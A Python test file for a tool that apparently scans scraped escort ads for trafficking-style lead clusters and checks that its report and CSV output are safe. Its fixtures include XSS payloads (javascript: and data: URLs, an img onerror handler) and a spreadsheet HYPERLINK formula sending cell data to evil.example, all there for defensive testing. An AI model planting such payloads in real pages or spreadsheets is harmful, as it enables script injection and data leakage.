"""Links and HTML taken from scraped ads: only http(s) links are rendered, everything is escaped,
and an ad id that would run as a spreadsheet formula is neutralised in clusters.csv."""

import csv
import json
import re

import pytest

from samen.online.engine import scan, write_outputs
from samen.online.engine.report import safe_url

EVIL_URLS = [
    "javascript:alert(document.domain)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
]
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"open")'


def _ads(tmp_path, urls: list[str]):
    """One operator's ads (same template, phone and pay-my-driver wording): a lead cluster."""
    path = tmp_path / "ads.jsonl"
    rows = [
        {
            "id": HYPERLINK if n == 0 else f"x{n}",
            "url": url,
            "city": city,
            "title": f'<img src=x onerror="alert(1)"> {name} ({20 + n % 3})',
            "text": f"Hi I am {name}, we have new girls every week. Call 06-12345000. "
            "Only bitcoin. Pay my driver on arrival. Kisses and see you soon tonight. "
            "<b>bold</b> <a href='javascript:alert(2)'>x</a>",
            "posted_at": "2026-05-01",
        }
        for n, (url, (name, city)) in enumerate(
            zip(
                urls,
                [("Anna", "Utrecht"), ("Mia", "Breda"), ("Lola", "Delft"), ("Nina", "Leiden")] * 4,
                strict=False,
            )
        )
    ]
    path.write_text("\n".join(json.dumps(r) for r in rows))
    result = scan([path])
    return write_outputs(result, [path], tmp_path / "out"), result


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    tmp_path = tmp_path_factory.mktemp("links")
    urls = [*EVIL_URLS, "https://site.example/ok"]
    files, result = _ads(tmp_path, urls)
    return files, result


def test_only_http_links_are_rendered_and_html_in_ads_is_escaped(outputs):
    files, _ = outputs
    html = files["report"].read_text()
    assert "https://site.example/ok" in html, "the ads must form a lead cluster for this test"
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs and all(h.startswith(("https://", "http://", "#")) for h in hrefs), hrefs
    assert 'href="https://site.example/ok"' in html
    assert "javascript:alert(document.domain)" in html  # shown as text, not as a link
    assert "<img" not in html and "<b>bold</b>" not in html and 'onerror="' not in html
    assert "&lt;img" in html and "&lt;b&gt;bold&lt;/b&gt;" in html


def test_clusters_csv_neutralises_an_ad_id_that_is_a_formula(outputs):
    files, _ = outputs
    rows = list(csv.reader(files["clusters"].open(encoding="utf-8")))
    ids = [row[0] for row in rows[1:]]
    assert "'" + HYPERLINK in ids and HYPERLINK not in ids


@pytest.mark.parametrize("url", [*EVIL_URLS, "https://", "ftp://x.example/", "http:/x", ""])
def test_unsafe_urls_are_not_links(url):
    assert safe_url(url) == ""


@pytest.mark.parametrize("url", ["https://site.example/a?b=1#c", "HTTP://SITE.EXAMPLE/"])
def test_web_urls_are_links(url):
    assert safe_url(url) == url
